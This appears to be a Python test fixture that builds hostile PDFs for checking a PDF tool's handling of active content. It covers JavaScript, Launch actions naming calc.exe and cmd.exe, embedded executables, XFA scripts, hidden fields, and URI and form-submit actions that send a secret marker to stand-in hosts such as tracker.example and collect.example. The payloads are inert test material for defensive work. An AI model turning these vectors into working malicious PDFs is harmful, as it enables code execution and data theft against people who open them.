"""Files that act: every kind of action in every place where one may stand, every kind of annotation, attachments, forms."""

from __future__ import annotations

from tests.faults.hostile.base import BOX, FONTS, HELLO, SECRET, Made, family, flate, page, stream, text

FILE = b"/F<</Type/Filespec/F(calc.exe)/EF<</F 30 0 R>>>>"
ACTIONS: dict[str, bytes] = {
    "javascript": b"/S/JavaScript/JS" + text(b"app.alert('" + SECRET + b"')"),
    "javascript-stream": b"/S/JavaScript/JS 31 0 R",
    "launch": b"/S/Launch" + FILE + b"/Win<</F(cmd.exe)/P" + text() + b">>",
    "uri": b"/S/URI/URI" + text(b"https://tracker.example/?" + SECRET),
    "remote": b"/S/GoToR/F" + text(SECRET + b".pdf") + b"/D[0/Fit]/NewWindow true",
    "embedded": b"/S/GoToE/T<</R/C/N" + text() + b">>/D[0/Fit]",
    "thread": b"/S/Thread/F" + text() + b"/D 0",
    "submit": b"/S/SubmitForm/F<</FS/URL/F" + text(b"https://collect.example/" + SECRET) + b">>/Flags 4",
    "reset": b"/S/ResetForm/Fields[" + text() + b"]",
    "import": b"/S/ImportData/F" + text(SECRET + b".fdf"),
    "named": b"/S/Named/N/Print",
    "hide": b"/S/Hide/T" + text() + b"/H false",
    "rendition": b"/S/Rendition/OP 0/AN 10 0 R/R<</S/MR/N" + text() + b"/C<</S/MCD/D 30 0 R/CT(video/mp4)>>>>/JS" + text(),
    "movie": b"/S/Movie/T" + text() + b"/Operation/Play",
    "sound": b"/S/Sound/Sound 32 0 R/Volume 1",
    "rich-media": b"/S/RichMediaExecute/TA 10 0 R/CMD<</C" + text() + b"/A[" + text() + b"]>>",
    "layers": b"/S/SetOCGState/State[/ON 33 0 R]",
    "transition": b"/S/Trans/Trans<</S/Wipe/D 1>>",
    "view-3d": b"/S/GoTo3DView/TA 10 0 R/V" + text(),
    "odd-kind": b"/S/Smuggle/Payload" + text(),
}
SIDE = {
    30: stream(b"MZ" + SECRET, b"/Type/EmbeddedFile/Params<</Size 4>>"),
    31: stream(b"var x = '" + SECRET + b"';"),
    32: stream(SECRET * 3, b"/Type/Sound/R 8000"),
    33: b"<</Type/OCG/Name" + text() + b">>",
}
WIDGET = b"/Type/Annot/Subtype/Widget/Rect[100 500 300 530]/F 4"


def _place(name: str, action: bytes) -> bytes:
    """The file with an action in the place of that name."""
    whole = b"<<" + action + b">>"
    link = b"<</Type/Annot/Subtype/Link/Rect[72 600 300 640]/A 12 0 R>>"
    more = SIDE | {12: whole}
    match name:
        case "open":
            return page(catalog=b"/OpenAction 12 0 R", more=more)
        case "catalog":
            return page(catalog=b"/AA<</WC 12 0 R/WS 12 0 R/DS 12 0 R/WP 12 0 R/DP 12 0 R>>", more=more)
        case "page":
            return page(page=BOX + b"/AA<</O 12 0 R/C 12 0 R>>", more=more)
        case "link":
            return page(page=BOX + b"/Annots[" + link + b"]", more=more)
        case "mark":
            mark = b"<</Type/Annot/Subtype/Square/Rect[100 100 200 200]/C[1 0 0]/AA<</E 12 0 R/X 12 0 R/D 12 0 R/PO 12 0 R>>>>"
            return page(page=BOX + b"/Annots[" + mark + b"]", more=more)
        case "field":
            field = b"<<" + WIDGET + b"/FT/Tx/T(n)/V(x)/A 12 0 R/AA<</K 12 0 R/F 12 0 R/V 12 0 R/C 12 0 R>>>>"
            return page(
                page=BOX + b"/Annots[10 0 R]", catalog=b"/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>", more=more | {10: field}
            )
        case "bookmark":
            outline = {
                20: b"<</Type/Outlines/First 21 0 R/Last 21 0 R/Count 1>>",
                21: b"<</Title(An entry)/Parent 20 0 R/A 12 0 R>>",
            }
            return page(catalog=b"/Outlines 20 0 R", more=more | outline)
        case "names":
            return page(catalog=b"/Names<</JavaScript<</Names[" + text() + b" 12 0 R]>>>>", more=more)
        case "next":
            chain = b"<</S/GoTo/D[3 0 R/Fit]/Next[12 0 R<</S/GoTo/D[3 0 R/Fit]/Next 12 0 R>>]>>"
            return page(page=BOX + b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A " + chain + b">>]", more=more)
        case _:
            inside = stream(
                HELLO,
                b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources 5 0 R/A 12 0 R/AA<</O 12 0 R>>/OpenAction 12 0 R",
            )
            return page(b"/X Do", resources=b"<</XObject<</X 11 0 R>>" + FONTS[2:], more=more | {11: inside})


PLACES = ("open", "catalog", "page", "link", "mark", "field", "bookmark", "names", "next", "drawing")


@family
def actions() -> Made:
    for name, action in ACTIONS.items():
        for place in PLACES:
            yield f"action-{name}-{place}.pdf", _place(place, action)


KINDS = (
    b"Text Link FreeText Line Square Circle Polygon PolyLine Highlight Underline Squiggly StrikeOut Stamp Caret Ink Popup "
    b"FileAttachment Sound Movie Widget Screen PrinterMark TrapNet Watermark 3D Redact Projection RichMedia Nothing"
).split()


@family
def annotations() -> Made:
    for kind in KINDS:
        entries = (
            b"<</Type/Annot/Subtype/%b/Rect[100 100 300 200]/F 4/Contents%b/T%b/Subj%b/RC%b/NM%b/FS<</EF<</F 30 0 R>>>>"
            b"/Sound 32 0 R"
            b"/Movie<</F%b>>/3DD 31 0 R/RichMediaContent<</Assets<</Names[(a) 30 0 R]>>>>/L[0 0 9 9]/Vertices[0 0 9 9 0 9]"
            b"/InkList[[0 0 9 9]]/QuadPoints[0 0 9 0 0 9 9 9]/C[1 0 0]/OverlayText%b/Popup 11 0 R>>"
        ) % ((kind,) + (text(),) * 7)
        popup = b"<</Type/Annot/Subtype/Popup/Rect[0 0 9 9]/Open true/Contents" + text() + b"/Parent 10 0 R>>"
        yield (
            f"annotation-{kind.decode()}.pdf",
            page(page=BOX + b"/Annots[10 0 R 11 0 R]", more=SIDE | {10: entries, 11: popup}),
        )
    for flag in (2, 32, 1, 64, 128, 512):
        looks = stream(b"BT /F1 9 Tf 2 2 Td %b Tj ET" % text(), b"/Subtype/Form/BBox[0 0 200 50]/Resources 5 0 R")
        hidden = b"<</Type/Annot/Subtype/Stamp/Rect[100 100 300 150]/F %d/AP<</N 10 0 R/R 10 0 R/D 10 0 R>>>>" % flag
        if flag in (2, 32):
            yield f"annotation-hidden-{flag}.pdf", page(page=BOX + b"/Annots[" + hidden + b"]", more={10: looks})


@family
def attachments() -> Made:
    spec = b"<</Type/Filespec/F%b/UF%b/Desc%b/EF<</F 30 0 R/UF 30 0 R>>/AFRelationship/Data>>" % ((text(),) * 3)
    more = SIDE | {14: spec}
    yield "attached-names.pdf", page(catalog=b"/Names<</EmbeddedFiles<</Names[(a) 14 0 R]>>>>", more=more)
    yield (
        "attached-tree.pdf",
        page(catalog=b"/Names<</EmbeddedFiles<</Kids[15 0 R]>>>>", more=more | {15: b"<</Limits[(a)(a)]/Names[(a) 14 0 R]>>"}),
    )
    yield "attached-associated.pdf", page(catalog=b"/AF[14 0 R]", page=BOX + b"/AF[14 0 R]", more=more)
    yield (
        "attached-to-a-drawing.pdf",
        page(
            b"/X Do",
            resources=b"<</XObject<</X 11 0 R>>" + FONTS[2:],
            more=more
            | {11: stream(HELLO, b"/Subtype/Form/BBox[0 0 612 792]/Resources 5 0 R/AF[14 0 R]/Ref<</F 14 0 R/Page 0>>")},
        ),
    )
    yield (
        "stream-in-another-file.pdf",
        page(content_object=stream(HELLO, b"/F" + text(b"file:///" + SECRET) + b"/FFilter/FlateDecode")),
    )


@family
def forms() -> Made:
    packet = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>" + SECRET + b"</script></xdp:xdp>"
    xfa = {16: stream(packet), 17: stream(b"<template>" + SECRET + b"</template>")}
    yield "xfa-one.pdf", page(catalog=b"/AcroForm<</Fields[]/XFA 16 0 R>>", more=xfa)
    yield "xfa-many.pdf", page(catalog=b"/AcroForm<</Fields[]/XFA[(preamble)16 0 R(template)17 0 R]>>", more=xfa)
    field = b"<<" + WIDGET + b"/FT/Tx/T%b/TU%b/TM%b/V%b/DV%b/RV%b/DS%b/Opt[%b]/Parent 11 0 R>>" % ((text(),) * 8)
    hidden = field.replace(b"/F 4", b"/F 2")
    looks = b"<<" + WIDGET + b"/FT/Tx/T(a)/V(seen)/MK<</CA%b/RC%b/AC%b>>/AP<</N 12 0 R/R 13 0 R/D 13 0 R>>>>" % ((text(),) * 3)
    side = {
        11: b"<</Kids[10 0 R]/T" + text() + b"/FT/Tx/V" + text() + b">>",
        12: stream(b"BT /F1 9 Tf 2 9 Td (seen) Tj ET", b"/Subtype/Form/BBox[0 0 200 30]/Resources 5 0 R"),
        13: stream(b"BT /F1 9 Tf 2 9 Td %b Tj ET" % text(), b"/Subtype/Form/BBox[0 0 200 30]/Resources 5 0 R"),
    }
    for name, one in (("hidden", hidden), ("looks", looks)):
        yield (
            f"field-{name}.pdf",
            page(page=BOX + b"/Annots[10 0 R]", catalog=b"/AcroForm<</Fields[10 0 R]/DR 5 0 R>>", more=side | {10: one}),
        )
    sign = (
        b"<<"
        + WIDGET
        + b"/FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/Name%b/Reason%b/Location%b/Contents<%b>>>>>"
        % (
            text(),
            text(),
            text(),
            SECRET.hex().encode(),
        )
    )
    yield (
        "field-signed.pdf",
        page(page=BOX + b"/Annots[10 0 R]", catalog=b"/AcroForm<</Fields[10 0 R]/SigFlags 3>>", more={10: sign}),
    )
    yield (
        "rights.pdf",
        page(catalog=b"/Perms<</UR3 10 0 R>>", more={10: b"<</Type/Sig/Contents<" + SECRET.hex().encode() + b">>>"}),
    )
    yield "portfolio-schema.pdf", page(catalog=b"/Collection<</Type/Collection/Schema<</A<</N" + text() + b">>>>>>")
    yield "requirements.pdf", page(catalog=b"/Requirements[<</S/EnableJavaScripts/RH[<</S/JS/Script" + text() + b">>]>>]")
    yield "legal.pdf", page(catalog=b"/Legal<</Attestation" + text() + b">>/Lang" + text() + b"/URI<</Base" + text() + b">>")
    yield (
        "threads.pdf",
        page(
            page=BOX + b"/B[11 0 R]",
            catalog=b"/Threads[10 0 R]",
            more={10: b"<</I<</Title%b>>/F 11 0 R>>" % text(), 11: b"<</T 10 0 R/N 11 0 R/V 11 0 R/P 3 0 R/R[0 0 9 9]>>"},
        ),
    )
    yield (
        "web-capture.pdf",
        page(
            catalog=b"/SpiderInfo<</V 1/C[<</URL%b>>]>>/Names<</IDS<</Names[(a) 10 0 R]>>/URLS<</Names[%b 10 0 R]>>>>"
            % (text(), text()),
            more={10: b"<</Type/SpiderContentSet/S/SPS/O[3 0 R]/ID%b/SI<</AU<</U%b>>>>>>" % (text(), text())},
        ),
    )
    yield (
        "deflated-script.pdf",
        page(catalog=b"/OpenAction<</S/JavaScript/JS 10 0 R>>", more={10: flate(b"x='" + SECRET + b"'")}),
    )
